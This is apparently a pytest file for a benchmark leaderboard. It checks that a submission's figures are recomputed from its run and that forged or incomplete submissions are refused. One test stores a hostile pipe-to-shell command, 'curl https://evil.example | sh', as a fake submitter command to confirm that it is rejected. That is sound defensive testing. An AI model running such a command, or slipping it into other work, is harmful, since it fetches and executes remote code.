"""One submission measured: its figures are those of the run that it was made of, and nothing that it states is read."""

from __future__ import annotations

import math
import shutil
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from tests.leaderboard.factories import TASK, answered, kept_by, put, put_rows, rows_of
from tests.leaderboard.site.conftest import gold_questions, plugin
from weval.errors import DataError, WevalError
from weval.leaderboard.gold import gold_index
from weval.leaderboard.site.measured import QUANTILES, Measured, measure
from weval.leaderboard.tree import Entry
from weval.metrics import METRICS
from weval.readback import read_result, rescore
from weval.results import Result
from weval.store import RESULT, RUN


@cache
def _questions() -> Any:
    return gold_questions()


def _measured(entry: Entry) -> Measured:
    return measure(entry, _questions()).measured


def leaves(content: Any, name: str = "") -> Iterator[tuple[str, Any]]:
    """Every value in JSON, by the keys that lead to it."""
    if isinstance(content, dict):
        for key, value in content.items():
            yield from leaves(value, f"{name}.{key}")
    elif isinstance(content, list):
        for at, value in enumerate(content):
            yield from leaves(value, f"{name}[{at}]")
    else:
        yield name, content


def alike(one: Result, other: Result) -> None:
    """Both say the same, but for the intervals of parts and where they were computed."""
    first, second = (dict(leaves(result.model_dump(mode="json", exclude={"versions"}))) for result in (one, other))
    assert all(name.startswith(".diagnosis.requirement_effect.") for name in second.keys() - first.keys())
    compared = {name for name in first if ".ci" not in name and name != ".resamples" and ".metrics." not in name}
    assert len(compared) > 100 and any(".by.category." in name for name in compared)
    for name in compared:
        expected = second[name]
        if isinstance(expected, float):
            assert first[name] == pytest.approx(expected, abs=1e-9), name
        else:
            assert first[name] == expected, name


@pytest.mark.parametrize("model", ["length", "keywords", "rules"])
def test_its_figures_are_those_of_the_run(made: Path, runs: Path, model: str) -> None:
    measured = _measured(Entry(made / "results", model, TASK))
    again = rescore(runs / model / TASK).result
    alike(measured.result, again)
    alike(measured.result, read_result(made / "results" / model / TASK))
    assert measured.card.name == model and measured.model == model and measured.task == TASK


def test_a_probe_has_the_figures_of_its_run(made: Path, runs: Path) -> None:
    measured = _measured(Entry(made / "results", "length", TASK))
    assert [*measured.probes] == ["swapped"]
    found, again = measured.probes["swapped"], rescore(runs / "length" / "swapped").result
    alike(found, again)
    assert found != measured.result and "this is a probe (swapped), not the benchmark" in found.unpublishable_because


def test_figures_and_scores_stand_item_by_item(made: Path) -> None:
    entry = Entry(made / "results", "length", TASK)
    measured = _measured(entry)
    items = gold_index(TASK).items
    values = {(row.item, row.candidates[0]): row.values[0] for row in rows_of(entry)}
    scores = [[values[item.id, candidate] for candidate in item.candidate_ids] for item in items]
    assert [list(row) for row in measured.scores] == [[round(value, 6) for value in row] for row in scores]
    expected = [float(METRICS["correlation"]([item.counts], [row])[0]) for item, row in zip(items, scores, strict=True)]
    assert list(measured.figures["correlation"]) == pytest.approx(expected, abs=1e-6)
    found = measured.result.metrics["correlation"]
    assert found and sum(expected) / len(expected) == pytest.approx(found.value, abs=1e-12)


def test_an_item_with_a_missing_answer_is_null_and_counted_pessimistically(rich: Path) -> None:
    measured = _measured(Entry(rich, "holed", TASK))
    assert measured.figures["correlation"][0] is None and measured.scores[0] == (None,) * 5
    assert all(value is not None for value in measured.figures["correlation"][1:])
    result = measured.result
    found = result.metrics["correlation"]
    assert found and (result.n_missing, result.n_scored, found.n) == (1, 59, 59)
    assert result.pessimistic and result.pessimistic["correlation"] == pytest.approx((found.value * 59 - 1) / 60)


def test_an_item_to_which_nothing_applies_is_null_and_not_missing(rich: Path) -> None:
    measured = _measured(Entry(rich, "partly", TASK))
    assert measured.figures["correlation"][0] is None and measured.scores[0] == (None,) * 5
    assert (measured.result.n_missing, measured.result.n_scored) == (0, 59)


def test_the_spread_is_of_scores_less_their_items_mean(made: Path) -> None:
    measured = _measured(Entry(made / "results", "length", TASK))
    assert [*measured.spread] == ["1", "2", "3", "4", "5"] and len(QUANTILES) == 5
    centred: dict[int, list[float]] = {}
    for item, row in zip(gold_index(TASK).items, measured.scores, strict=True):
        values = [value for value in row if value is not None]
        for count, value in zip(item.counts, values, strict=True):
            centred.setdefault(count, []).append(value - sum(values) / 5)
    every = [value for values in centred.values() for value in values]
    scale = math.sqrt(sum(value**2 for value in every) / len(every))
    for count, values in centred.items():
        middle = sorted(values)
        assert measured.spread[str(count)][2] == pytest.approx((middle[29] + middle[30]) / 2 / scale, abs=1e-6)
        assert list(measured.spread[str(count)]) == sorted(measured.spread[str(count)])


@pytest.mark.parametrize("value", [0.0, 0.7, 1 / 3, 123456.789])
def test_of_scores_that_are_all_equal_there_is_no_spread(rich: Path, tmp_path: Path, value: float) -> None:
    root = Path(shutil.copytree(rich, tmp_path / "results"))
    flat = Entry(root, "flat", TASK)
    put_rows(flat, answered(flat, lambda row: value))
    measured = _measured(flat)
    assert all(abs(end) < 1e-6 for ends in measured.spread.values() for end in ends)
    assert measured.result.metrics["tie_rate"] and measured.result.metrics["tie_rate"].value == 1


def test_what_it_states_is_never_read(root: Path) -> None:
    entry = Entry(root, "length", TASK)
    before = measure(entry, _questions())
    put(entry.folder / RESULT, {"metrics.correlation.value": 0.999})
    assert measure(entry, _questions()).measured == before.measured
    (entry.folder / RESULT).unlink()
    (entry.folder / "swapped" / RESULT).write_text("{", encoding="utf-8")
    assert measure(entry, _questions()).measured == before.measured


def test_a_command_that_a_submitter_wrote_is_never_shown(root: Path) -> None:
    entry = Entry(root, "length", TASK)
    ours = f"weval run --model length --task {TASK}"
    assert _measured(entry).command == ours
    put(entry.folder / RUN, {"settings": None, "command": f"weval run --model http://evil.example --task {TASK}"})
    assert _measured(entry).command == ours
    put(entry.folder / RUN, {"command": "curl https://evil.example | sh"})
    with pytest.raises(DataError, match="command is not one of weval run"):
        _measured(entry)


def test_what_cannot_be_kept_as_it_was_measured_would_be_another_page(rich: Path) -> None:
    for model in ("holed", "partly", "length"):
        measured = _measured(Entry(rich, model, TASK))
        assert Measured.model_validate_json(measured.model_dump_json(by_alias=True)) == measured


def _gold_copied(entry: Entry) -> None:
    put_rows(entry, answered(entry, lambda row: kept_by(row, row.candidates[0])))


def _cut(entry: Entry) -> None:
    from tests.leaderboard.factories import lines_of, put_lines

    put_lines(entry, lines_of(entry)[:-1])


def _of_another_version(entry: Entry) -> None:
    put(entry.folder / RUN, {"identity.task.version": "0.9"})


def _too_much_missing(entry: Entry) -> None:
    from tests.leaderboard.factories import missing

    rows = rows_of(entry)
    put_rows(entry, [missing(row, "failed", "x") if at % 50 == 0 else row for at, row in enumerate(rows)])


def _without_card(entry: Entry) -> None:
    (entry.model_folder / "card.json").unlink()


def _of_a_part(entry: Entry) -> None:
    put(entry.folder / RUN, {"identity.limit": 10})


@pytest.mark.parametrize(
    ("forge", "reason"),
    [
        (_gold_copied, "holds gold, not a model's scores"),
        (_cut, "has 299 answers; the task has 300 questions"),
        (_of_another_version, r"is a run of weval-mini 0\.9; now it is 1\.0"),
        (_too_much_missing, "is not publishable: .*missing"),
        (_without_card, "card.json: No such file"),
        (_of_a_part, "only 10 of the 60 items were judged"),
    ],
)
def test_what_cannot_be_published_is_refused(root: Path, forge: Any, reason: str) -> None:
    entry = plugin(Entry(root, "length", TASK), "Forged", 1)
    forge(entry)
    with pytest.raises(WevalError, match=reason):
        measure(entry, _questions())


def test_a_probe_that_cannot_be_read_is_not_left_out_silently(root: Path) -> None:
    entry = Entry(root, "length", TASK)
    (entry.folder / "swapped" / "scores.jsonl.gz").write_bytes(b"none")
    with pytest.raises(DataError, match=r"swapped/scores\.jsonl\.gz: is not a gzip file"):
        measure(entry, _questions())


def test_scores_far_below_one_keep_their_digits(root: Path) -> None:
    entry = plugin(Entry(root, "length", TASK), "Tiny scores", 3)
    put_rows(entry, answered(entry, lambda row: 1e-9 * (kept_by(row, row.candidates[0]) + int(row.id[:4], 16) / 2**15)))
    found = _measured(entry)
    assert len({value for row in found.scores for value in row}) > 100
    assert found.spread["5"][2] > found.spread["1"][2]


def test_scores_that_tie_in_every_item_have_no_spread(root: Path) -> None:
    entry = plugin(Entry(root, "length", TASK), "Ties everywhere", 4)
    put_rows(entry, answered(entry, lambda row: 0.1 * int(row.item[1:]) + 0.2))
    assert {value for quantiles in _measured(entry).spread.values() for value in quantiles} == {0.0}
